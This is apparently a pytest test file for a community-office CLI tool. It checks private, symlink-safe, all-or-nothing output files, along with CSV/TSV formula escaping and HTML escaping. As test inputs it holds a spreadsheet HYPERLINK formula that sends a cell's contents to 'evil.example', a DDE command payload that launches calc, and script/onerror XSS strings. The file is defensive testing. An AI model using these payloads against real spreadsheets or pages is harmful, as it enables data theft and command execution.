"""Files a command writes where the user says (-o/--output, db backup): private, whole or not at all,
never through a symbolic link; CSV/TSV cells that a spreadsheet would run as a formula; HTML in Markdown."""

import csv
import errno
import io
import os
import resource
import sqlite3
import stat

import pytest

from tests.conftest import dump

MONTHLY = ("report", "monthly", "--month", "2026-10", "-f", "html")


def mode(path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


@pytest.fixture
def shm_open(cli):
    """Keep a connection on the store so its -shm exists and needs no growing (RLIMIT_FSIZE below)."""
    conn = sqlite3.connect(str(cli.db))
    conn.execute("SELECT COUNT(*) FROM offices").fetchone()
    yield
    conn.close()


def limited(limit: int, fn):
    """Run ``fn()`` with files capped at ``limit`` bytes: a real write failure part-way (EFBIG);
    Python ignores SIGXFSZ, so the write fails instead of the process dying."""
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (limit, hard))
    try:
        return fn()
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))


# --- -o/--output ---------------------------------------------------------------------------


def test_an_output_file_is_private(cli, tmp_path):
    out = tmp_path / "r.html"
    cli.ok(*MONTHLY, "-o", out)
    assert mode(out) == 0o600 and "<html" in out.read_text(encoding="utf-8")
    shared = tmp_path / "shared.html"  # an old report left readable by everyone becomes private too
    shared.write_text("old", encoding="utf-8")
    shared.chmod(0o644)
    cli.ok(*MONTHLY, "-o", shared)
    assert mode(shared) == 0o600 and "<html" in shared.read_text(encoding="utf-8")


def test_an_output_file_is_never_written_through_a_symlink(cli, tmp_path):
    target = tmp_path / "target.txt"
    target.write_text("keep me", encoding="utf-8")
    link = tmp_path / "report.html"
    link.symlink_to(target)
    r = cli.fails(*MONTHLY, "-o", link)
    assert "--output" in r.stderr and str(link) in r.stderr and "symbolic link" in r.stderr
    assert target.read_text(encoding="utf-8") == "keep me" and link.is_symlink()
    dangling = tmp_path / "dangling.html"
    dangling.symlink_to(tmp_path / "nowhere.html")
    r = cli.fails(*MONTHLY, "-o", dangling)
    assert "symbolic link" in r.stderr and not (tmp_path / "nowhere.html").exists()
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("store.db")) == [
        "dangling.html",
        "report.html",
        "target.txt",
    ]


def test_an_output_that_is_not_a_regular_file_is_refused(cli, tmp_path):
    r = cli.fails(*MONTHLY, "-o", tmp_path)
    assert "--output" in r.stderr and str(tmp_path) in r.stderr


def test_a_write_failing_part_way_keeps_the_old_report_and_leaves_no_temporary_file(cli, tmp_path, shm_open):
    out = tmp_path / "r.html"
    out.write_text("last month's report", encoding="utf-8")
    assert len(cli.ok(*MONTHLY).stdout.encode()) > 4096  # the report is bigger than the cap
    before = sorted(p.name for p in tmp_path.iterdir())
    r = limited(4096, lambda: cli(*MONTHLY, "-o", out))
    assert r.exit_code == 1 and "Traceback" not in r.stderr
    assert "--output" in r.stderr and str(out) in r.stderr and "too large" in r.stderr
    assert out.read_bytes() == b"last month's report"
    assert sorted(p.name for p in tmp_path.iterdir()) == before


def test_a_full_disk_is_named(cli, tmp_path, monkeypatch):
    out = tmp_path / "r.html"
    out.write_text("last month's report", encoding="utf-8")

    def full(fd):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full)
    r = cli.fails(*MONTHLY, "-o", out)
    assert "disk full" in r.stderr and "--output" in r.stderr
    assert out.read_text(encoding="utf-8") == "last month's report"
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("store.db")) == ["r.html"]


def test_a_ticket_form_to_a_file_is_private_too(office, tmp_path):
    office.ok("ticket", "new", "--kind", "repair", "--building", "1栋", "--room", "101", "-d", "漏水")
    out = tmp_path / "form.md"
    office.ok("ticket", "form", "1", "transfer", "-o", out)
    assert mode(out) == 0o600 and "漏水" in out.read_text(encoding="utf-8")


# --- db backup -----------------------------------------------------------------------------


def test_a_backup_failing_part_way_leaves_nothing(cli, tmp_path, shm_open):
    conn = sqlite3.connect(str(cli.db))
    conn.executemany(
        "INSERT INTO events (at, by, record_table, action, after, recorded_at)"
        " VALUES ('2026-11-23T09:00:00+08:00', 'seed', 'test', 'seed', ?, '2026-11-23T09:00:00+08:00')",
        [("s" * 400,) for _ in range(400)],
    )
    conn.commit()
    conn.close()
    dest = tmp_path / "copies" / "copy.db"
    dest.parent.mkdir()
    before = dump(cli.db)
    r = limited(64 * 1024, lambda: cli("db", "backup", dest))
    assert r.exit_code == 1 and "Traceback" not in r.stderr, r.stderr
    assert "DEST" in r.stderr and str(dest) in r.stderr
    assert list(dest.parent.iterdir()) == []
    assert dump(cli.db) == before


def test_a_backup_onto_a_symlink_is_refused(cli, tmp_path):
    target = tmp_path / "target.db"
    link = tmp_path / "link.db"
    link.symlink_to(target)
    r = cli.fails("db", "backup", link)
    assert "DEST" in r.stderr and str(link) in r.stderr
    assert not target.exists() and link.is_symlink()


# --- spreadsheet formulas in CSV and TSV -----------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def test_spreadsheet_safe_cell():
    from commscli.io.output import spreadsheet_safe

    for text in ("=1+1", "+86 138", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert spreadsheet_safe(text) == "'" + text
    for value in ("漏水", "1栋", "", " =1", "2026-11-23", "a=b"):
        assert spreadsheet_safe(value) == value
    # numbers are numbers, not user text: a negative figure stays a number a spreadsheet can add up
    assert spreadsheet_safe(-3) == -3 and spreadsheet_safe(-0.5) == -0.5 and spreadsheet_safe(None) is None


def caller_ticket(office, desc: str = FORMULA):
    """A walk-in caller without a household: the due list's detail starts with the caller's name."""
    office.ok(
        "ticket",
        "new",
        "--kind",
        "inquiry",
        "--caller-name",
        "=cmd|' /C calc'!A0",
        "-d",
        desc,
        "--at",
        "2026-11-23T09:00",
    )


def test_report_csv_writes_a_formula_as_text(office):
    caller_ticket(office)
    rows = list(csv.reader(io.StringIO(office.ok("report", "due", "-f", "csv", "--show-personal").stdout)))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert any(c.startswith("'=cmd|") for c in cells), cells


def test_report_csv_escapes_a_building_named_like_a_formula(cli):
    cli.ok("office", "add", "ZZ09", "--name", "测试处", "--buildings", "=1+2,@A1")
    cli.ok("household", "add", "--office", "ZZ09", "--building", "=1+2", "--room", "101")
    out = cli.ok("report", "monthly", "--month", "2026-11", "-f", "csv").stdout
    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
    assert "'=1+2" in cells and "=1+2" not in cells


def test_tsv_listing_writes_a_formula_as_text(office):
    caller_ticket(office)
    lines = office.ok("ticket", "list").stdout.splitlines()
    header, row = lines[0].split("\t"), lines[1].split("\t")
    assert row[header.index("Content")] == "'" + FORMULA


# --- HTML in Markdown ------------------------------------------------------------------------

SCRIPT = '<script>alert("x")</script> & <img src=x onerror=alert(1)>'


def test_markdown_forms_escape_html_in_user_text(office):
    office.ok("ticket", "new", "--kind", "repair", "--building", "1栋", "--room", "101", "-d", SCRIPT)
    md = office.ok("ticket", "form", "1", "transfer", "--format", "md").stdout
    assert "<script>" not in md and "<img" not in md
    assert '&lt;script&gt;alert("x")&lt;/script&gt; &amp; &lt;img src=x onerror=alert(1)&gt;' in md
    # the Markdown itself is still Markdown: headings, tables and bold are not escaped
    assert md.startswith("# ") and "|---|" in md and "**" in md
    # the same form as plain text (the Markdown template, for a terminal) shows the text as typed
    assert SCRIPT in office.ok("ticket", "form", "1", "transfer", "--format", "text").stdout
    html = office.ok("ticket", "form", "1", "transfer", "--format", "html").stdout
    assert "<script>" not in html and "&lt;script&gt;" in html


def test_markdown_report_escapes_html_in_user_text(cli):
    cli.ok("office", "add", "ZZ09", "--name", "测试处", "--buildings", "<b>1栋</b>")
    cli.ok("household", "add", "--office", "ZZ09", "--building", "<b>1栋</b>", "--room", "101")
    md = cli.ok("report", "monthly", "--month", "2026-11", "-f", "md").stdout
    assert "<b>" not in md and "&lt;b&gt;1栋&lt;/b&gt;" in md
